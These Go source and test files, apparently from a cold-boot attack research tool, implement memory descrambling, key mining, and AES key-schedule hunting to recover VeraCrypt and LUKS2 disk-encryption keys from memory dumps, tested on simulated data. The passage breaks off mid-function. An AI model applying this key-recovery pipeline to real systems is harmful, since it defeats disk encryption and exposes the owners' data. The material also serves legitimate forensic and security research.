func UniversalRebootKeyContext(ctx context.Context, xorDump []byte) ([]byte, error) {
	if len(xorDump)%BlockBytes != 0 || len(xorDump) == 0 {
		return nil, fmt.Errorf("core: bad XOR dump length %d", len(xorDump))
	}
	counts := make(map[string]int)
	for b := 0; b < len(xorDump)/BlockBytes; b++ {
		if b%ddr3PollBlocks == 0 {
			if err := ctx.Err(); err != nil {
				return nil, err
			}
		}
		counts[string(xorDump[b*BlockBytes:(b+1)*BlockBytes])]++
	}
	best, bestN := "", -1
	for v, n := range counts {
		if n > bestN || (n == bestN && v < best) {
			best, bestN = v, n
		}
	}
	return []byte(best), nil
}

// DescrambleDDR3 is DescrambleDDR3Context without cancellation.
func DescrambleDDR3(dump []byte, keys [DDR3KeyCount][]byte) ([]byte, error) {
	return DescrambleDDR3Context(context.Background(), dump, keys)
}

// DescrambleDDR3Context applies the recovered 16-key pool to a scrambled
// dump, returning the plaintext memory image ready for a conventional
// (Halderman-style) key scan. The descramble pass polls ctx every
// ddr3PollBlocks blocks; on cancellation the partial output is discarded
// and ctx.Err() returned.
func DescrambleDDR3Context(ctx context.Context, dump []byte, keys [DDR3KeyCount][]byte) ([]byte, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	for i, k := range keys {
		if len(k) != BlockBytes {
			return nil, fmt.Errorf("core: key %d has length %d", i, len(k))
		}
	}
	out := make([]byte, len(dump))
	for b := 0; b < len(dump)/BlockBytes; b++ {
		if b%ddr3PollBlocks == 0 {
			if err := ctx.Err(); err != nil {
				return nil, err
			}
		}
		key := keys[b%DDR3KeyCount]
		bitutil.XORBlock64(out[b*BlockBytes:], dump[b*BlockBytes:], key)
	}
	return out, nil
}
