package core

import (
	"bytes"
	"math/rand"
	"testing"

	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

// buildScrambledDump fills size bytes with the given workload profile,
// scrambles them with a fresh Skylake scrambler, and returns (dump,
// plaintext, scrambler).
func buildScrambledDump(t testing.TB, size int, seed int64, p workload.Profile) ([]byte, []byte, *scramble.SkylakeDDR4) {
	t.Helper()
	plain := make([]byte, size)
	if err := workload.Fill(plain, seed, p); err != nil {
		t.Fatal(err)
	}
	s := scramble.NewSkylakeDDR4(uint64(seed) * 977)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)
	return dump, plain, s
}

func TestMineKeysFindsTrueKeys(t *testing.T) {
	dump, plain, s := buildScrambledDump(t, 2<<20, 1, workload.LightSystem)
	res, err := MineKeys(dump, MineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) == 0 {
		t.Fatal("no keys mined")
	}
	// Every mined key that was sighted at a zero-plaintext block must equal
	// the scrambler's true key for that block.
	checked := 0
	for _, mk := range res.Keys {
		for _, pos := range mk.Positions {
			if !isZeroBlock(plain, pos) {
				continue
			}
			want := s.KeyAt(uint64(pos) * BlockBytes)
			if !bytes.Equal(mk.Key, want) {
				t.Fatalf("mined key at block %d differs from true key", pos)
			}
			checked++
			break
		}
	}
	if checked < 1000 {
		t.Errorf("only %d mined keys verified against truth", checked)
	}
}

func isZeroBlock(plain []byte, blockIdx int) bool {
	for _, b := range plain[blockIdx*BlockBytes : (blockIdx+1)*BlockBytes] {
		if b != 0 {
			return false
		}
	}
	return true
}

func TestMineKeysUnder16MB(t *testing.T) {
	// Key Idea 1: all keys minable from < 16 MB even on a loaded system.
	// At simulation scale: a 4 MB loaded-system dump must cover (nearly)
	// every one of the 4096 address classes.
	dump, _, _ := buildScrambledDump(t, 4<<20, 2, workload.LoadedSystem)
	res, err := MineKeys(dump, MineOptions{MaxBytes: 4 << 20})
	if err != nil {
		t.Fatal(err)
	}
	stride := res.InferStride()
	if stride != 4096 {
		t.Fatalf("inferred stride %d, want 4096", stride)
	}
	cov := res.Coverage(stride)
	if cov < 0.95 {
		t.Errorf("coverage = %f, want >= 0.95", cov)
	}
}

func TestMineStrideInference(t *testing.T) {
	dump, _, _ := buildScrambledDump(t, 1<<20, 3, workload.LightSystem)
	res, err := MineKeys(dump, MineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.InferStride(); got != scramble.SkylakeKeyCount {
		t.Errorf("stride = %d, want %d", got, scramble.SkylakeKeyCount)
	}
}

func TestMineKeysByResidue(t *testing.T) {
	dump, plain, s := buildScrambledDump(t, 1<<20, 4, workload.LightSystem)
	res, _ := MineKeys(dump, MineOptions{})
	stride := res.InferStride()
	byRes := res.KeysByResidue(stride)
	// For every residue with a zero block, the residue's key list must
	// include the true key.
	hits := 0
	for b := 0; b < len(plain)/BlockBytes && hits < 500; b++ {
		if !isZeroBlock(plain, b) {
			continue
		}
		want := s.KeyAt(uint64(b) * BlockBytes)
		foundTrue := false
		for _, mk := range byRes[b%stride] {
			if bytes.Equal(mk.Key, want) {
				foundTrue = true
				break
			}
		}
		if !foundTrue {
			t.Fatalf("residue %d key list missing true key", b%stride)
		}
		hits++
	}
}

func TestMineMajorityVoteRepairsDecay(t *testing.T) {
	// Several decayed sightings of the same key must majority-vote back to
	// the exact key.
	s := scramble.NewSkylakeDDR4(99)
	true0 := s.KeyAt(0)
	rng := rand.New(rand.NewSource(5))
	const copies = 9
	dump := make([]byte, copies*scramble.SkylakeKeyCount*BlockBytes)
	// Place decayed copies of key 0 at positions 0, 4096, 8192, ...
	for c := 0; c < copies; c++ {
		pos := c * scramble.SkylakeKeyCount * BlockBytes
		copy(dump[pos:], true0)
		// flip 2 random bits per copy
		for f := 0; f < 2; f++ {
			bit := rng.Intn(512)
			dump[pos+bit/8] ^= 1 << uint(bit%8)
		}
	}
	// Fill the rest with non-passing noise.
	noise := make([]byte, BlockBytes)
	for b := 1; b < len(dump)/BlockBytes; b++ {
		if b%scramble.SkylakeKeyCount == 0 {
			continue
		}
		rng.Read(noise)
		copy(dump[b*BlockBytes:], noise)
	}
	res, err := MineKeys(dump, MineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var got *MinedKey
	for i := range res.Keys {
		if res.Keys[i].Count >= copies {
			got = &res.Keys[i]
			break
		}
	}
	if got == nil {
		t.Fatal("decayed key copies not merged into one mined key")
	}
	if !bytes.Equal(got.Key, true0) {
		t.Error("majority vote did not recover the exact key")
	}
}

func TestMineMinCountFilters(t *testing.T) {
	dump, _, _ := buildScrambledDump(t, 2<<20, 6, workload.LightSystem)
	all, _ := MineKeys(dump, MineOptions{MinCount: 1})
	frequent, _ := MineKeys(dump, MineOptions{MinCount: 4})
	if len(frequent.Keys) >= len(all.Keys) {
		t.Errorf("MinCount filter did not reduce keys: %d vs %d", len(frequent.Keys), len(all.Keys))
	}
	for _, k := range frequent.Keys {
		if k.Count < 4 {
			t.Fatalf("key with count %d survived MinCount 4", k.Count)
		}
	}
}

func TestMineMaxBytesLimitsScan(t *testing.T) {
	dump, _, _ := buildScrambledDump(t, 1<<20, 7, workload.LightSystem)
	res, _ := MineKeys(dump, MineOptions{MaxBytes: 256 << 10})
	if res.BlocksScanned != (256<<10)/BlockBytes {
		t.Errorf("scanned %d blocks, want %d", res.BlocksScanned, (256<<10)/BlockBytes)
	}
}

func TestMineRejectsUnalignedDump(t *testing.T) {
	if _, err := MineKeys(make([]byte, 100), MineOptions{}); err == nil {
		t.Error("expected error for unaligned dump")
	}
}

func TestMineOnHostileWorkload(t *testing.T) {
	// Almost no zeros: mining finds few keys, coverage is poor — the
	// honest failure mode.
	dump, _, _ := buildScrambledDump(t, 1<<20, 8, workload.HostileSystem)
	res, _ := MineKeys(dump, MineOptions{})
	stride := res.InferStride()
	if stride != 0 {
		if cov := res.Coverage(stride); cov > 0.5 {
			t.Errorf("hostile workload coverage %f unexpectedly high", cov)
		}
	}
}

func TestMineKeysSortedByCount(t *testing.T) {
	dump, _, _ := buildScrambledDump(t, 1<<20, 9, workload.LightSystem)
	res, _ := MineKeys(dump, MineOptions{})
	for i := 1; i < len(res.Keys); i++ {
		if res.Keys[i].Count > res.Keys[i-1].Count {
			t.Fatal("keys not sorted by count descending")
		}
	}
}

func TestGCD(t *testing.T) {
	cases := []struct{ a, b, want int }{
		{0, 5, 5}, {5, 0, 5}, {12, 8, 4}, {4096, 8192, 4096}, {-6, 9, 3},
	}
	for _, c := range cases {
		if got := gcd(c.a, c.b); got != c.want {
			t.Errorf("gcd(%d,%d) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

func BenchmarkMineKeys1MB(b *testing.B) {
	dump, _, _ := buildScrambledDump(b, 1<<20, 10, workload.LoadedSystem)
	b.SetBytes(1 << 20)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := MineKeys(dump, MineOptions{}); err != nil {
			b.Fatal(err)
		}
	}
}
