package core

import (
	"context"
	"math/rand"
	"reflect"
	"testing"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
	"coldboot/internal/workload"
)

// decayBits flips n random bits across buf, mirroring asymmetric-agnostic
// decay used by the attack scenario tests.
func decayBits(buf []byte, seed int64, n int) {
	rng := rand.New(rand.NewSource(seed))
	for i := 0; i < n; i++ {
		bit := rng.Intn(len(buf) * 8)
		buf[bit/8] ^= 1 << uint(bit%8)
	}
}

// TestMineKeysParity: the production miner (content slab + probe table +
// pigeonhole merge) must reproduce the seed map-based miner exactly,
// including merge order, majority votes, and position ordering.
func TestMineKeysParity(t *testing.T) {
	cases := []struct {
		name  string
		size  int
		seed  int64
		decay int
		opt   MineOptions
	}{
		{"clean_512KiB", 512 << 10, 11, 0, MineOptions{}},
		{"decay_0.1pct", 512 << 10, 12, 512 << 10 / 125, MineOptions{}},
		{"decay_1pct_merge", 256 << 10, 13, 256 << 10 * 8 / 100, MineOptions{}},
		{"merge_distance_4", 256 << 10, 14, 256 << 10 / 50, MineOptions{MergeDistance: 4}},
		{"min_count_3", 256 << 10, 15, 256 << 10 / 100, MineOptions{MinCount: 3}},
		{"max_bytes_cap", 512 << 10, 16, 512 << 10 / 200, MineOptions{MaxBytes: 128 << 10}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dump := buildAttackDump(t, tc.size, tc.seed, workload.LightSystem,
				testMaster(tc.seed*7, 32), 100*BlockBytes)
			if tc.decay > 0 {
				decayBits(dump, tc.seed+1000, tc.decay)
			}
			got, err := MineKeys(dump, tc.opt)
			if err != nil {
				t.Fatal(err)
			}
			want := refMineKeys(dump, tc.opt)
			if got.BlocksScanned != want.BlocksScanned || got.BlocksPassed != want.BlocksPassed {
				t.Fatalf("counters: got (%d scanned, %d passed), want (%d, %d)",
					got.BlocksScanned, got.BlocksPassed, want.BlocksScanned, want.BlocksPassed)
			}
			if len(got.Keys) != len(want.Keys) {
				t.Fatalf("key count: got %d, want %d", len(got.Keys), len(want.Keys))
			}
			for i := range want.Keys {
				if !reflect.DeepEqual(got.Keys[i], want.Keys[i]) {
					t.Fatalf("key %d differs:\n got  %+v\n want %+v", i, got.Keys[i], want.Keys[i])
				}
			}
		})
	}
}

// TestAESLitmusParity: the prefiltered litmus must produce the identical hit
// list as the seed scan on clean schedules, decayed schedules, and noise.
func TestAESLitmusParity(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	block := make([]byte, BlockBytes)
	for _, v := range []aes.Variant{aes.AES128, aes.AES192, aes.AES256} {
		sched := aes.ExpandKeyBytes(testMaster(int64(v.Nk()), v.KeyBytes()))
		for trial := 0; trial < 400; trial++ {
			switch trial % 4 {
			case 0: // pure noise
				rng.Read(block)
			case 1: // clean schedule fragment at a random alignment
				off := rng.Intn(len(sched) - BlockBytes)
				copy(block, sched[off:off+BlockBytes])
			case 2: // decayed schedule fragment
				off := rng.Intn(len(sched) - BlockBytes)
				copy(block, sched[off:off+BlockBytes])
				for i := 0; i < 1+rng.Intn(8); i++ {
					bit := rng.Intn(BlockBytes * 8)
					block[bit/8] ^= 1 << uint(bit%8)
				}
			case 3: // low-entropy block (degenerate-ish)
				b := byte(rng.Intn(4))
				for i := range block {
					block[i] = b
				}
			}
			for _, tol := range []int{0, DefaultAESTolerance, 12} {
				got := AESLitmus(block, v, tol)
				want := refAESLitmus(block, v, tol)
				if !reflect.DeepEqual(got, want) {
					t.Fatalf("%v tol %d trial %d: hits differ\n got  %+v\n want %+v\nblock % x",
						v, tol, trial, got, want, block)
				}
			}
		}
	}
}

// TestVerifyRepairParity: direct comparisons of the scratch-based verify,
// repair, ground-repair, and refine stages against the seed references on a
// live ground scenario (real directory, real decayed windows).
func TestVerifyRepairParity(t *testing.T) {
	if raceEnabled {
		t.Skip("serial differential oracle: nothing for the race detector, and the reference search is too slow under it")
	}
	dump, groundDump, master, tableStart := buildGroundScenario(t, 2)
	mine, err := MineKeys(dump, MineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	stride := mine.InferStride()
	if stride == 0 {
		t.Fatal("ground scenario produced no stride")
	}
	directory := ResidueDirectory(mine, stride)
	v := aes.AES256

	headBlock := tableStart / BlockBytes
	stored := dump[headBlock*BlockBytes : (headBlock+1)*BlockBytes]
	descrambled := make([]byte, BlockBytes)
	var anyHit bool
	for _, key := range directory(headBlock) {
		bitutil.XORBlock64(descrambled, stored, key)
		hits := AESLitmus(descrambled, v, DefaultAESTolerance)
		if wantHits := refAESLitmus(descrambled, v, DefaultAESTolerance); !reflect.DeepEqual(hits, wantHits) {
			t.Fatalf("litmus parity on ground block: got %+v want %+v", hits, wantHits)
		}
		for _, hit := range hits {
			anyHit = true
			gm := MasterFromHit(descrambled, hit, v)
			if wm := refMasterFromHit(descrambled, hit, v); !reflect.DeepEqual(gm, wm) {
				t.Fatalf("MasterFromHit parity: got % x want % x", gm, wm)
			}
			gs := VerifySchedule(dump, directory, gm, hit.TableStart(headBlock), v)
			if ws := refVerifySchedule(dump, directory, gm, hit.TableStart(headBlock), v); gs != ws {
				t.Fatalf("VerifySchedule parity: got %v want %v", gs, ws)
			}

			rm, rs := RepairWindow(dump, directory, descrambled, headBlock, hit, v, 2, 0.80)
			wrm, wrs := refRepairWindow(dump, directory, descrambled, headBlock, hit, v, 2, 0.80)
			if rs != wrs || !reflect.DeepEqual(rm, wrm) {
				t.Fatalf("RepairWindow parity: got (% x, %v) want (% x, %v)", rm, rs, wrm, wrs)
			}

			gmaster, gscore := RepairWindowGround(dump, groundDump, directory, descrambled,
				headBlock, hit, v, 3, 0.80)
			wgm, wgs := refRepairWindowGround(dump, groundDump, directory, descrambled,
				headBlock, hit, v, 3, 0.80)
			if gscore != wgs || !reflect.DeepEqual(gmaster, wgm) {
				t.Fatalf("RepairWindowGround parity: got (% x, %v) want (% x, %v)",
					gmaster, gscore, wgm, wgs)
			}

			fm, fs := RefineMaster(dump, directory, gmaster, tableStart, v)
			wfm, wfs := refRefineMaster(dump, directory, wgm, tableStart, v)
			if fs != wfs || !reflect.DeepEqual(fm, wfm) {
				t.Fatalf("RefineMaster parity: got (% x, %v) want (% x, %v)", fm, fs, wfm, wfs)
			}
			if string(fm) != string(master) {
				t.Fatalf("refined master % x != planted % x", fm, master)
			}
		}
	}
	if !anyHit {
		t.Fatal("ground scenario produced no litmus hits on the head block")
	}
}

// TestAttackPipelineParity is the tentpole oracle: the pooled, cached,
// memoized pipeline (Workers: 1 for deterministic ordering) must emit
// byte-identical results to the frozen seed pipeline on every scenario,
// including both repair paths and the exhaustive directory.
func TestAttackPipelineParity(t *testing.T) {
	if raceEnabled {
		t.Skip("serial differential oracle (Workers: 1 vs verbatim seed copies): nothing for the race detector, and the reference pipeline is too slow under it")
	}
	type scenario struct {
		name  string
		build func(t *testing.T) ([]byte, Config)
	}
	scenarios := []scenario{
		{"clean_scrambled_1MiB", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 1<<20, 61, workload.LightSystem,
				testMaster(601, 32), 4096*BlockBytes+128)
			return dump, Config{Workers: 1}
		}},
		{"decay_repair1", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 1<<20, 62, workload.LightSystem,
				testMaster(602, 32), 2048*BlockBytes)
			decayBits(dump, 620, len(dump)*8/2000)
			return dump, Config{Workers: 1, RepairFlips: 1}
		}},
		{"corrupt_window_repair2", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 1<<20, 63, workload.LightSystem,
				testMaster(603, 32), 1024*BlockBytes)
			// Flip a bit in the first word of several interior table blocks so
			// the double-flip repair path has real work.
			for _, blk := range []int{1025, 1026, 1027} {
				dump[blk*BlockBytes+2] ^= 0x20
			}
			return dump, Config{Workers: 1, RepairFlips: 2}
		}},
		{"ground_dump", func(t *testing.T) ([]byte, Config) {
			dump, groundDump, _, _ := buildGroundScenario(t, 2)
			return dump, Config{Workers: 1, GroundDump: groundDump}
		}},
		{"exhaustive_small", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 256<<10, 64, workload.LightSystem,
				testMaster(604, 32), 512*BlockBytes)
			return dump, Config{Workers: 1, Exhaustive: true}
		}},
		{"aes128_variant", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 512<<10, 65, workload.LightSystem,
				testMaster(605, 16), 1000*BlockBytes)
			decayBits(dump, 650, len(dump)*8/4000)
			return dump, Config{Workers: 1, Variant: aes.AES128, RepairFlips: 1}
		}},
	}
	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			dump, cfg := sc.build(t)
			got, err := AttackContext(context.Background(), dump, cfg)
			if err != nil {
				t.Fatal(err)
			}
			want := refAttack(dump, cfg)

			if got.Stride != want.Stride {
				t.Errorf("Stride: got %d, want %d", got.Stride, want.Stride)
			}
			if got.Coverage != want.Coverage {
				t.Errorf("Coverage: got %v, want %v", got.Coverage, want.Coverage)
			}
			if got.BlocksScanned != want.BlocksScanned {
				t.Errorf("BlocksScanned: got %d, want %d", got.BlocksScanned, want.BlocksScanned)
			}
			if got.PairsTested != want.PairsTested {
				t.Errorf("PairsTested: got %d, want %d", got.PairsTested, want.PairsTested)
			}
			if !reflect.DeepEqual(got.Mine.Keys, want.Mine.Keys) {
				t.Errorf("Mine.Keys differ: got %d keys, want %d", len(got.Mine.Keys), len(want.Mine.Keys))
			}
			if len(got.Keys) != len(want.Keys) {
				t.Fatalf("Keys: got %d, want %d\n got  %+v\n want %+v",
					len(got.Keys), len(want.Keys), got.Keys, want.Keys)
			}
			for i := range want.Keys {
				// The refactored pipeline tags every native-hunt key with the
				// aesxts format; the frozen reference predates tagging. Assert
				// the tag, then compare the rest byte-for-byte.
				g := got.Keys[i]
				if g.Format != FormatAESXTS {
					t.Errorf("key %d format: got %q, want %q", i, g.Format, FormatAESXTS)
				}
				g.Format, g.Volume = "", ""
				if !reflect.DeepEqual(g, want.Keys[i]) {
					t.Errorf("key %d differs:\n got  %+v\n want %+v", i, g, want.Keys[i])
				}
			}
		})
	}
}
