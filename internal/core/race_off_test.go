//go:build !race

package core

// raceEnabled is false in ordinary test builds; see race_on_test.go.
const raceEnabled = false
