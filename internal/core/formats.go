package core

import (
	"fmt"
	"sort"

	"coldboot/internal/bitutil"
	"coldboot/internal/format"
	"coldboot/internal/obs"
)

// Format-registry integration: which target formats one attack hunts for,
// and how their findings are recorded, deduplicated, tagged, and filtered.
//
// The native AES-schedule hunt (anchored litmus + verify/repair/refine
// over the attack's key directory) stays inside this package and answers
// to the name FormatAESXTS; every other format plugs in as a
// format.BlockProber probed over each freshly descrambled block in the
// same single pass. "luks2" is a hybrid: its header recognition is a
// prober, while its VMK keys come from the native AES hunt — two ADJACENT
// schedules (dm-crypt's XTS data+tweak pair) get re-tagged as luks2 and
// stamped with the sighted header's UUID at assemble time.

// FormatAESXTS names the built-in AES key-schedule hunt (the
// VeraCrypt/TrueCrypt XTS posture). It exists even with an empty format
// registry.
const FormatAESXTS = "aesxts"

// FormatLUKS2 names the LUKS2 VMK format; the core only knows it to apply
// the schedule-pair tagging rule when the scanner is registered and
// enabled.
const FormatLUKS2 = "luks2"

// KnownFormats returns every format name an attack can be asked for: the
// built-in AES hunt plus everything in the format registry, sorted.
func KnownFormats() []string {
	names := format.Names()
	for _, n := range names {
		if n == FormatAESXTS {
			return names
		}
	}
	out := append([]string{FormatAESXTS}, names...)
	sort.Strings(out)
	return out
}

// resolvedFormats is Config.Formats resolved against the registry.
type resolvedFormats struct {
	// aes runs the native AES-schedule hunt (aesxts requested, or luks2 —
	// whose VMKs are AES schedules).
	aes bool
	// luks2 applies the adjacent-schedule-pair VMK tagging rule.
	luks2 bool
	// enabled is the set of formats whose keys survive the final filter.
	enabled map[string]bool
	// probers are the registered block probers to run per descrambled
	// block, in name order.
	probers []format.BlockProber
	// names is the sorted enabled-format list (for per-format counters).
	names []string
}

// resolveFormats validates and resolves a Config.Formats list. A nil/empty
// list means every known format.
func resolveFormats(names []string) (resolvedFormats, error) {
	if len(names) == 0 {
		names = KnownFormats()
	}
	rf := resolvedFormats{enabled: make(map[string]bool, len(names))}
	for _, n := range names {
		s, registered := format.Get(n)
		if !registered && n != FormatAESXTS {
			return rf, fmt.Errorf("core: unknown format %q (known: %v)", n, KnownFormats())
		}
		if rf.enabled[n] {
			continue
		}
		rf.enabled[n] = true
		rf.names = append(rf.names, n)
		switch n {
		case FormatAESXTS:
			rf.aes = true
		case FormatLUKS2:
			rf.aes = true
			rf.luks2 = true
		}
		if p, ok := s.(format.BlockProber); ok {
			rf.probers = append(rf.probers, p)
		}
	}
	sort.Strings(rf.names)
	sort.Slice(rf.probers, func(i, j int) bool { return rf.probers[i].Name() < rf.probers[j].Name() })
	return rf, nil
}

// formatWidth is the byte footprint one finding of the named format spans,
// used for overlap/alias suppression. AES-schedule formats (including the
// untagged "" of in-flight candidates) span the expanded schedule; other
// formats answer through their registered scanner.
func formatWidth(name string, schedBytes int) int {
	switch name {
	case "", FormatAESXTS, FormatLUKS2:
		return schedBytes
	}
	if s, ok := format.Get(name); ok {
		if w := s.Width(); w > 0 {
			return w
		}
	}
	return schedBytes
}

// descrambleView gives block probers random access to descrambled bytes
// beyond the block in flight: the current block reads from the worker's
// in-progress descramble (honouring the candidate key under test), every
// other block is descrambled on the fly with its directory's best key.
// One view lives per hunt worker, so the fixed scratch keeps the read
// path allocation-free.
type descrambleView struct {
	data      []byte
	directory KeyDirectory
	// curBlock/curDescrambled are the worker's in-flight block.
	curBlock       int
	curDescrambled []byte
	scratch        [BlockBytes]byte
}

func (v *descrambleView) ReadDescrambled(off int, buf []byte) bool {
	if off < 0 || off+len(buf) > len(v.data) {
		return false
	}
	for n := 0; n < len(buf); {
		b := (off + n) / BlockBytes
		in := (off + n) % BlockBytes
		var src []byte
		if b == v.curBlock {
			src = v.curDescrambled
		} else {
			keys := v.directory(b)
			if len(keys) == 0 {
				return false
			}
			bitutil.XORBlock64(v.scratch[:], v.data[b*BlockBytes:(b+1)*BlockBytes], keys[0])
			src = v.scratch[:]
		}
		n += copy(buf[n:], src[in:])
	}
	return true
}

// recordFinding registers one prober finding: nil-Key findings are volume
// sightings, keyed findings join the candidate pool deduplicated by
// (format, key bytes).
func (run *AttackRun) recordFinding(f format.Finding) {
	run.mu.Lock()
	defer run.mu.Unlock()
	if f.Key == nil {
		if _, ok := run.volumes[f.Offset]; !ok {
			run.volumes[f.Offset] = format.Volume{Format: f.Format, Offset: f.Offset, UUID: f.Volume}
		}
		return
	}
	//lint:ignore keyflow foundF needs a comparable key; the FoundKey Master copies are the caller-owned result
	k := f.Format + "\x00" + string(f.Key)
	if fk, ok := run.foundF[k]; ok {
		fk.Anchors++
		if f.Score > fk.Score {
			fk.Score = f.Score
			fk.TableStart = f.Offset
		}
		return
	}
	run.foundF[k] = &FoundKey{
		Master:     append([]byte{}, f.Key...),
		TableStart: f.Offset,
		Score:      f.Score,
		Anchors:    1,
		Format:     f.Format,
		Volume:     f.Volume,
	}
}

// sortedVolumes flattens the sighting map in offset order.
func sortedVolumes(m map[int]format.Volume) []format.Volume {
	if len(m) == 0 {
		return nil
	}
	out := make([]format.Volume, 0, len(m))
	for _, v := range m {
		out = append(out, v)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Offset < out[j].Offset })
	return out
}

// tagLUKS2 applies the VMK pairing rule to an assembled key list: two AES
// schedules sitting exactly one schedule apart are dm-crypt's XTS
// data+tweak pair, not two independent VeraCrypt masters. Both halves are
// re-tagged as luks2 and stamped with the UUID of the sighted volume
// header (empty when the page-cache copy of the header was not found or
// did not survive decay).
func tagLUKS2(keys []FoundKey, volumes []format.Volume, schedBytes int) {
	if len(keys) < 2 {
		return
	}
	at := make(map[int]int, len(keys))
	for i, k := range keys {
		if k.Format == FormatAESXTS || k.Format == FormatLUKS2 {
			at[k.TableStart] = i
		}
	}
	uuid := ""
	for _, v := range volumes {
		if v.Format == FormatLUKS2 {
			uuid = v.UUID
			break
		}
	}
	for i := range keys {
		if keys[i].Format != FormatAESXTS && keys[i].Format != FormatLUKS2 {
			continue
		}
		_, above := at[keys[i].TableStart+schedBytes]
		_, below := at[keys[i].TableStart-schedBytes]
		if above || below {
			keys[i].Format = FormatLUKS2
			keys[i].Volume = uuid
		}
	}
}

// filterFormats drops keys whose format was not requested (e.g. a
// luks2-only attack still runs the AES hunt but discards lone schedules).
func filterFormats(keys []FoundKey, rf resolvedFormats) []FoundKey {
	out := keys[:0]
	for _, k := range keys {
		if rf.enabled[k.Format] {
			out = append(out, k)
		}
	}
	return out
}

// emitFormatCounts publishes per-format result counters ("format.<name>.
// candidates", plus "format.luks2.volumes") — zero counts included, so
// every enabled format shows up in progress, /metrics, and the event
// stream even when it found nothing.
func emitFormatCounts(tr obs.Tracer, rf resolvedFormats, res *Result) {
	counts := make(map[string]int64, len(rf.names))
	for _, k := range res.Keys {
		counts[k.Format]++
	}
	for _, name := range rf.names {
		tr.Count("format."+name+".candidates", counts[name])
	}
	if rf.enabled[FormatLUKS2] {
		tr.Count("format."+FormatLUKS2+".volumes", int64(len(res.Volumes)))
	}
}

// FormatCounts tallies the result's keys per format tag.
func (r *Result) FormatCounts() map[string]int64 {
	if len(r.Keys) == 0 {
		return nil
	}
	out := make(map[string]int64)
	for _, k := range r.Keys {
		out[k.Format]++
	}
	return out
}
