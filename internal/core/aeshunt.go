package core

import (
	"math/bits"

	"coldboot/internal/aes"
)

// ScheduleHit records one place where a descrambled 64-byte block was found
// to contain consecutive AES key-schedule words.
type ScheduleHit struct {
	// WordOffset is the window position inside the block, in 4-byte words
	// (0..15).
	WordOffset int
	// ScheduleIndex is the absolute key-schedule word index the window was
	// matched at (0..ScheduleWords-Nk).
	ScheduleIndex int
	// VerifiedWords is how many subsequent schedule words were predicted
	// and compared inside the block.
	VerifiedWords int
	// Distance is the hamming distance between predicted and observed
	// verification words.
	Distance int
}

// MinVerifyWords is the minimum number of predicted schedule words that must
// be verifiable inside the block for a trial to count. Two words = 64
// compared bits, enough to make chance matches negligible.
const MinVerifyWords = 2

// DefaultAESTolerance is the default bit-flip budget for the AES litmus
// verification compare.
const DefaultAESTolerance = 6

// AESLitmus checks whether a single descrambled 64-byte block contains a
// run of AES key-schedule words, per the paper's insight that at least
// three consecutive round keys of an in-memory schedule always lie fully
// inside some 64-byte block. It slides an Nk-word window across the block
// (assuming the 4-byte alignment real schedules have), tries every possible
// absolute schedule position for the window, predicts the following words
// with a partial key expansion, and compares them — all without touching
// any neighbouring block.
//
// Returned hits are those whose prediction matched within tolerance bits.
func AESLitmus(block []byte, v aes.Variant, tolerance int) []ScheduleHit {
	if len(block) != BlockBytes {
		panic("core: AES litmus block must be 64 bytes")
	}
	return aesLitmusWords(aes.BytesToWords(block), v, tolerance, nil)
}

// aesLitmusWords is AESLitmus on a pre-converted word view, appending hits
// onto the caller's slice — the hunt workers reuse both the word buffer and
// the hit slice across every (block, key) pair. The hit set is identical to
// the plain nested scan's.
func aesLitmusWords(words []uint32, v aes.Variant, tolerance int, hits []ScheduleHit) []ScheduleHit {
	nk := v.Nk()
	total := v.ScheduleWords()
	const blockWords = BlockBytes / 4
	for j := 0; j+nk+MinVerifyWords <= blockWords; j++ {
		maxVerify := blockWords - j - nk
		// First-word prefilter: the first predicted word of trial (j, a) is
		// words[j] ^ f(words[j+nk-1], a+nk), compared against words[j+nk].
		// Its distance depends on a only through the congruence class of
		// a+nk mod nk (plus the rcon byte in the rotate class), so the class
		// distances are computed once per window position j and almost every
		// a is rejected with two table lookups instead of a full prediction
		// walk. A trial is skipped exactly when predictAndCompare would fail
		// on its first compared word, so the hit set is unchanged.
		prev := words[j+nk-1]
		base0 := words[j] ^ words[j+nk]
		dIdent := bits.OnesCount32(base0 ^ prev)
		rotBase := base0 ^ subWordRot(prev)
		dRotLow := bits.OnesCount32(rotBase & 0x00FFFFFF)
		rotHigh := byte(rotBase >> 24)
		if dIdent <= tolerance {
			// A live identity class (real keystream windows land here) means
			// almost every a survives the prefilter: walk them all.
			dSub := -1 // lazy: only nk > 6 schedules have the subword class
			for a := 0; a+nk+MinVerifyWords <= total; a++ {
				i := a + nk // absolute index of the first predicted word
				var d0 int
				switch {
				case i%nk == 0:
					d0 = dRotLow + bits.OnesCount8(rotHigh^byte(rconWord(i/nk)>>24))
				case nk > 6 && i%nk == 4:
					if dSub < 0 {
						dSub = bits.OnesCount32(base0 ^ subWord32(prev))
					}
					d0 = dSub
				default:
					d0 = dIdent
				}
				if d0 > tolerance {
					continue
				}
				hits = tryHit(hits, words, j, a, nk, total, maxVerify, tolerance)
			}
			continue
		}
		// Dead identity class — the overwhelmingly common case on non-key
		// data. Every a with (a+nk) % nk ∉ {0, 4} shares dIdent and is
		// rejected, so only the rotate class (a ≡ 0 mod nk) and, for
		// nk > 6, the subword class (a ≡ 4 mod nk) can survive: walk just
		// those few, in the same ascending-a order as the full loop.
		rotDead := dRotLow > tolerance
		subDead := nk <= 6
		if !subDead {
